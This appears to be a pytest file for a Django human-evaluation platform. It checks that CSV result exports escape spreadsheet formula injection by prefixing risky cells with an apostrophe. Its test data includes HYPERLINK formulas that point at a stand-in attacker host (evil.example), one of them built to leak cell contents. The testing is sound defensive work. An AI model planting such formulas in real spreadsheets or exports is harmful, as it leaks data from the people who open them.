"""CSV cells that a spreadsheet would run as a formula are escaped (issue #34): a participant's answer
or a model's output starting with = + - @ is written with a leading apostrophe; plain numbers stay."""

import csv
import io

import pytest
from django.test import Client

from frontend.pages.common import spreadsheet_safe
from humaneval.models import EvalSession
from humaneval.services.design import StudyDesign, create_study
from tests.factories import ItemFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


def test_formula_cells_are_escaped_and_numbers_kept():
    for text in FORMULAS:
        assert spreadsheet_safe(text) == "'" + text
    for kept in ("-1.5", "+3", "12", "a = b", "", 7, -2.5, None):
        assert spreadsheet_safe(kept) == kept


def test_the_responses_csv_escapes_a_participants_formula():
    item = ItemFactory(answers=["armchair"])
    study = create_study(item.benchmark, StudyDesign("CSV", [item.pk], 30, 600), UserFactory())
    participant = Client()
    participant.post(f"/crowd/studies/{study.pk}/", {"PROLIFIC_PID": "CSV1", "STUDY_ID": "S", "SESSION_ID": "X"})
    session = EvalSession.objects.get()
    shown = participant.get(f"/api/v1/sessions/{session.pk}/current/").json()["item"]["id"]
    formula = '=HYPERLINK("http://evil.example","armchair")'
    stored = participant.post(f"/api/v1/sessions/{session.pk}/answer/", {"item": shown, "answer": formula},
                              content_type="application/json")
    assert stored.status_code == 201
    admin = Client()
    admin.force_login(UserFactory(role="admin"))
    cells = [cell for row in csv.reader(io.StringIO(admin.get(f"/studies/{study.pk}/results.csv").content.decode()))
             for cell in row]
    assert "'" + formula in cells and formula not in cells
